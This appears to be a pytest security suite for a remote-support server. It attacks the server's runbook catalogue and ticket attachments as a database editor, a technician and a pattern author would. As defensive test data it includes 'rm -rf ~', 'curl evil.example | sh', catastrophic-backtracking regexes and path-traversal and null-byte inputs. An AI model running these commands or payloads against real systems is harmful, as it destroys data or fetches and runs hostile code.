"""Issue 9 reviewed as an attacker, on the server: a database editor who changes a stored runbook
or attachment, a technician who attaches what the device never sent, an author who writes a
pattern that stops the server, and garbage sent to the new endpoints.

Each hole found is a test marked ``xfail(strict=True)`` whose reason names the finding; each
defence that held is a plain test.
"""

from __future__ import annotations

import json
import os
import subprocess
import uuid
from pathlib import Path
from typing import Any

import httpx
import orjson
import pytest
from fastapi import FastAPI
from sqlalchemy import update

from auxilio.crypto.keys import b64url_decode, b64url_encode
from auxilio.policy import load_template
from auxilio.policy.loader import parse_policy
from auxilio.policy.roles import Role
from auxilio.runbooks import load_example
from auxilio.server.errors import DomainError
from auxilio.server.runbooks import service as catalogue_service
from auxilio.server.runbooks.models import RunbookVersion
from auxilio.server.support_sessions.models import SupportSession
from auxilio.server.tickets.attachment_models import TicketAttachment
from tests.factories import Person, count_rows, make_org, make_technician, make_ticket, make_user
from tests.server.runbooks.conftest import API, Catalogue, draft

ERROR_CODE = r"^[a-z0-9_]+([._][a-z0-9_]+)*$"


@pytest.fixture
async def catalogue(app: FastAPI, client: httpx.AsyncClient) -> Catalogue:
    org = await make_org(app)
    return Catalogue(
        app=app,
        client=client,
        org=org,
        author=await make_user(app, org, Role.SENIOR_TECHNICIAN),
        supervisor=await make_user(app, org, Role.SUPERVISOR),
        admin=await make_user(app, org, Role.ADMIN),
    )


async def approved(catalogue: Catalogue, body: dict[str, Any] | None = None) -> dict[str, Any]:
    created = await catalogue.create(body)
    response = await catalogue.approve(created["runbook_id"], created["version"],
                                       catalogue.supervisor)  # fmt: skip
    assert response.status_code == 200, response.text
    result: dict[str, Any] = response.json()
    return result


async def pins(catalogue: Catalogue, *ids: str) -> list[Any]:
    async with catalogue.app.state.sessionmaker() as db:
        return list(
            await catalogue_service.pins_for(
                db, organisation_id=catalogue.org.id, runbook_ids=list(ids), pre_authorised=()
            )
        )


# -- runbooks: a pattern that stops the server ----------------------------------------------------


@pytest.mark.parametrize("pattern", ["(a+)+", "([a-z]+)*x", "(a|aa)+", "(.*a){12}"])
async def test_a_pattern_with_catastrophic_backtracking_is_refused_at_the_draft(
    catalogue: Catalogue, pattern: str
) -> None:
    body = draft(parameters=[{"name": "what", "type": "string", "pattern": pattern,
                              "required": False}])  # fmt: skip
    response = await catalogue.client.post(API, json=body, headers=catalogue.author.headers)
    assert response.status_code == 422, response.text
    assert response.json()["error"]["details"]["field"] == "parameters.0.pattern"


# -- runbooks: a database editor ------------------------------------------------------------------


async def test_a_signed_body_edited_in_the_database_is_never_pinned(
    catalogue: Catalogue,
) -> None:
    row = await approved(catalogue)
    body = b64url_decode(row["signed"]["body"]).replace(b"flushing", b"rm -rf ~", 1)
    async with catalogue.app.state.sessionmaker() as db, db.begin():
        await db.execute(update(RunbookVersion).values(signed_body=b64url_encode(body)))
    with pytest.raises(DomainError) as refused:
        await pins(catalogue, "flush-dns")
    assert refused.value.code in ("runbook.signature_invalid", "runbook.not_in_catalogue")


async def test_a_retired_version_revived_in_the_database_is_not_pinned(
    catalogue: Catalogue,
) -> None:
    await approved(catalogue)
    retired = await catalogue.client.post(
        f"{API}/flush-dns/versions/1/retire", headers=catalogue.author.headers
    )
    assert retired.status_code == 200
    async with catalogue.app.state.sessionmaker() as db, db.begin():
        await db.execute(update(RunbookVersion).values(state="approved", retired_at=None))
    with pytest.raises(DomainError):
        await pins(catalogue, "flush-dns")


async def test_a_script_edited_in_the_database_never_reaches_a_pin(catalogue: Catalogue) -> None:
    # DEFENCE HOLDS: the pin is of the signed body, whatever the columns say now.
    row = await approved(catalogue)
    async with catalogue.app.state.sessionmaker() as db, db.begin():
        await db.execute(update(RunbookVersion).values(script="curl evil.example | sh\n"))
    [pin] = await pins(catalogue, "flush-dns")
    assert pin.sha256 == row["sha256"]


async def test_an_approved_runbook_of_another_organisation_cannot_be_pinned(
    catalogue: Catalogue, app: FastAPI
) -> None:
    # DEFENCE HOLDS: the catalogue is per organisation, by id.
    await approved(catalogue)
    other = await make_org(app)
    async with app.state.sessionmaker() as db:
        with pytest.raises(DomainError) as refused:
            await catalogue_service.pins_for(
                db, organisation_id=other.id, runbook_ids=["flush-dns"], pre_authorised=()
            )
    assert refused.value.code == "runbook.not_in_catalogue"


async def test_an_author_cannot_approve_a_new_version_of_their_own(catalogue: Catalogue) -> None:
    # DEFENCE HOLDS: two-person approval follows every version, even one the supervisor wrote
    # on top of an approved runbook.
    await approved(catalogue)
    second = await catalogue.create(draft(script="echo v2\n"), by=catalogue.supervisor)
    response = await catalogue.approve("flush-dns", second["version"], catalogue.supervisor)
    assert response.status_code == 403
    assert response.json()["error"]["details"]["rule"] == "capabilities.runbooks.two_person"


def test_a_pre_authorised_example_never_reads_a_zone_through_a_link(tmp_path: Path) -> None:
    school = parse_policy(load_template("school"))
    assert school.capabilities.runbooks is not None
    # The finding: collect-logs ran with no question under the template that promises "no
    # access to personal documents". Now it asks, and reads no log through a link either.
    assert "collect-logs" not in school.capabilities.runbooks.pre_authorised
    home = tmp_path / "home"
    (home / "Documents").mkdir(parents=True)
    (home / "Documents" / "diary.txt").write_text("dear diary: the custody hearing\n")
    (home / ".xsession-errors").symlink_to(home / "Documents" / "diary.txt")
    done = subprocess.run(
        ["/bin/sh", "-c", load_example("collect-logs").fields["script"]],
        env={"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": str(home),
             "AUXILIO_PARAM_LINES": "200"},
        cwd=tmp_path, capture_output=True, text=True, timeout=60, check=False,
    )  # fmt: skip
    assert "custody" not in done.stdout



@pytest.mark.parametrize("disguise", ["hard link", "linked folder"])
def test_collect_logs_reads_no_document_under_another_name(tmp_path: Path, disguise: str) -> None:
    # A hard link is not a link to [ -L ], and a linked folder hides behind a plain file name:
    # the script compares each log's real path with the path it was given.
    home = tmp_path / "home"
    (home / "Documents").mkdir(parents=True)
    diary = home / "Documents" / "diary.log"
    diary.write_text("dear diary: the custody hearing\n")
    if disguise == "hard link":
        os.link(diary, home / ".xsession-errors")
    else:
        (home / "Library").mkdir()
        (home / "Library" / "Logs").symlink_to(home / "Documents")
    done = subprocess.run(
        ["/bin/sh", "-c", load_example("collect-logs").fields["script"]],
        env={"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": str(home),
             "AUXILIO_PARAM_LINES": "200"},
        cwd=tmp_path, capture_output=True, text=True, timeout=60, check=False,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert "custody" not in done.stdout
    assert "(skipped " in done.stdout  # and the person's report says a log was left out


# -- garbage to the new endpoints ----------------------------------------------------------------

GARBAGE_DRAFTS: list[dict[str, Any]] = [
    {"parameters": "what"},
    {"parameters": [{"name": "What", "type": "string"}]},
    {"parameters": [{"name": "s", "type": "string", "pattern": "("}]},
    {"parameters": [{"name": "s", "type": "string", "pattern": "x", "default": 7}]},
    {"parameters": [{"name": "c", "type": "choice", "choices": [], "default": "a"}]},
    {"parameters": [{"name": "a", "type": "boolean"}] * 2},
    {"parameters": [{"name": f"p{i}", "type": "boolean"} for i in range(17)]},
    {"platforms": []},
    {"platforms": ["linux", "linux", "linux", "linux"]},
    {"interpreter": "cmd"},
    {"timeout_seconds": 0},
    {"timeout_seconds": 2**63},
    {"timeout_seconds": "30"},
    {"script": ""},
    {"script": "x" * (64 * 1024 + 1)},
    {"script": "echo ok\u202e"},
    {"script": "echo \x00"},
    {"name": "\x1b[2J"},
    {"description": ["a"]},
    {"runbook_id": "../etc"},
    {"runbook_id": "A" * 65},
    {"signature": "x"},
]


@pytest.mark.parametrize("overrides", GARBAGE_DRAFTS)
async def test_garbage_drafts_are_422_with_a_stable_code(
    catalogue: Catalogue, overrides: dict[str, Any]
) -> None:
    # DEFENCE HOLDS: every bad draft is refused as the client's error, never a 500.
    response = await catalogue.client.post(
        API, json=draft(**overrides), headers=catalogue.author.headers
    )
    assert response.status_code == 422, response.text
    assert response.json()["error"]["code"] in ("runbook.invalid", "validation_failed")
    assert await count_rows(catalogue.app, RunbookVersion) == 0


@pytest.mark.parametrize(
    "parameter",
    [
        {"name": "n", "type": "integer", "minimum": 2**70},
        {"name": "n", "type": "integer", "maximum": -(10**400)},
        {"name": "n", "type": "integer", "required": False, "default": 2**64},
    ],
)
async def test_integer_bounds_past_64_bits_are_422_not_500(
    catalogue: Catalogue, parameter: dict[str, Any]
) -> None:
    try:
        response = await catalogue.client.post(
            API, json=draft(parameters=[parameter]), headers=catalogue.author.headers
        )
    except Exception as exc:  # the test client re-raises what the application did not handle
        pytest.fail(f"the server failed: {exc!r}")
    assert response.status_code == 422, response.text
    assert response.json()["error"]["code"] == "runbook.invalid"


@pytest.mark.parametrize(
    "path",
    [
        f"{API}/flush-dns/versions/0/approve",
        f"{API}/flush-dns/versions/-1/approve",
        f"{API}/flush-dns/versions/{2**63}/approve",
        f"{API}/flush-dns/versions/one/retire",
        f"{API}/%2e%2e/versions/1/approve",
        f"{API}/flush%00dns/versions/1/retire",
    ],
)
async def test_garbage_in_a_runbook_path_is_a_client_error(catalogue: Catalogue, path: str) -> None:
    await catalogue.create()
    response = await catalogue.client.post(path, headers=catalogue.supervisor.headers)
    assert 400 <= response.status_code < 500, response.text
    assert response.json()["error"]["code"]


# -- attachments: a database editor and a technician ----------------------------------------------


def attachment(**overrides: Any) -> dict[str, Any]:
    report = {"os": {"name": "Linux"}, "memory": {"total": 16 * 2**30}}
    return {"kind": "diagnostics", "name": "diagnostics.json", "media_type": "application/json",
            "content": orjson.dumps(report).decode(), **overrides}  # fmt: skip


async def support_session(app: FastAPI, ticket_id: uuid.UUID, tech: Person, user: Person) -> str:
    """A support session row on ``ticket_id`` in which the device sent nothing."""
    async with app.state.sessionmaker() as db, db.begin():
        row = SupportSession(
            organisation_id=user.user.organisation_id, ticket_id=ticket_id,
            requester_id=user.user.id, ticket_ref="#1", technician_id=tech.user.id,
            mode="attended", state="ended", node_id="node-1", technician_e2e_key="k" * 43,
        )  # fmt: skip
        db.add(row)
        await db.flush()
        return str(row.id)


async def test_an_attachment_edited_in_the_database_is_not_served_as_genuine(
    app: FastAPI, client: httpx.AsyncClient
) -> None:
    org = await make_org(app)
    tech = await make_technician(app, org)
    ticket_id = await make_ticket(app, await make_user(app, org))
    url = f"/api/v1/tickets/{ticket_id}/attachments"
    created = (await client.post(url, headers=tech.headers, json=attachment())).json()
    async with app.state.sessionmaker() as db, db.begin():
        await db.execute(update(TicketAttachment).values(content='{"os": "all fine"}'))
    response = await client.get(f"{url}/{created['id']}", headers=tech.headers)
    assert response.status_code == 409, response.text


async def test_a_result_the_device_never_sent_is_not_attached_as_the_sessions(
    app: FastAPI, client: httpx.AsyncClient
) -> None:
    org = await make_org(app)
    tech = await make_technician(app, org)
    user = await make_user(app, org)
    ticket_id = await make_ticket(app, user)
    session_id = await support_session(app, ticket_id, tech, user)
    response = await client.post(
        f"/api/v1/tickets/{ticket_id}/attachments",
        headers=tech.headers,
        json=attachment(support_session_id=session_id),
    )
    assert response.status_code == 422 or response.json().get("verified") is False


async def test_another_organisations_attachment_is_not_found_even_by_its_id(
    app: FastAPI, client: httpx.AsyncClient
) -> None:
    # DEFENCE HOLDS: an attachment id of another organisation's ticket, asked for under one's
    # own ticket, is not found; the other ticket itself is not found either.
    home, away = await make_org(app), await make_org(app)
    tech, stranger = await make_technician(app, home), await make_technician(app, away)
    mine = await make_ticket(app, await make_user(app, home))
    theirs = await make_ticket(app, await make_user(app, away))
    secret = (
        await client.post(f"/api/v1/tickets/{theirs}/attachments", headers=stranger.headers,
                          json=attachment())
    ).json()  # fmt: skip
    crossed = await client.get(f"/api/v1/tickets/{mine}/attachments/{secret['id']}",
                               headers=tech.headers)  # fmt: skip
    direct = await client.get(f"/api/v1/tickets/{theirs}/attachments/{secret['id']}",
                              headers=tech.headers)  # fmt: skip
    assert (crossed.status_code, crossed.json()["error"]["code"]) == (404, "attachment_not_found")
    assert (direct.status_code, direct.json()["error"]["code"]) == (404, "ticket_not_found")


async def test_another_organisations_session_cannot_be_named_on_an_attachment(
    app: FastAPI, client: httpx.AsyncClient
) -> None:
    # DEFENCE HOLDS: the session is looked up in the caller's sight.
    home, away = await make_org(app), await make_org(app)
    tech, stranger = await make_technician(app, home), await make_technician(app, away)
    their_user = await make_user(app, away)
    theirs = await make_ticket(app, their_user)
    their_session = await support_session(app, theirs, stranger, their_user)
    mine = await make_ticket(app, await make_user(app, home))
    response = await client.post(
        f"/api/v1/tickets/{mine}/attachments",
        headers=tech.headers,
        json=attachment(support_session_id=their_session),
    )
    assert response.status_code == 404
    assert response.json()["error"]["code"] == "support_session_not_found"


GARBAGE_ATTACHMENTS: list[dict[str, Any]] = [
    {"kind": None},
    {"kind": ["diagnostics"]},
    {"name": "x" * 10_000},
    {"name": "a\x00b"},
    {"content": None},
    {"content": {"os": "x"}},
    {"content": "[" * 100_000, "media_type": "application/json"},
    {"content": "\ud800", "media_type": "text/plain"},
    {"support_session_id": "not-a-uuid"},
    {"support_session_id": 12},
    {"size": 1, "sha256": "0" * 64},
    {"media_type": "application/json; charset=utf-8"},
]


@pytest.mark.parametrize("overrides", GARBAGE_ATTACHMENTS)
async def test_garbage_attachments_are_client_errors_with_a_stable_code(
    app: FastAPI, client: httpx.AsyncClient, overrides: dict[str, Any]
) -> None:
    org = await make_org(app)
    tech = await make_technician(app, org)
    ticket_id = await make_ticket(app, await make_user(app, org))
    response = await client.post(
        f"/api/v1/tickets/{ticket_id}/attachments",
        headers=tech.headers,
        content=json.dumps(attachment(**overrides)),  # ASCII: a lone surrogate stays escaped
    )
    assert 400 <= response.status_code < 500, response.text
    assert response.json()["error"]["code"]
    assert await count_rows(app, TicketAttachment) == 0
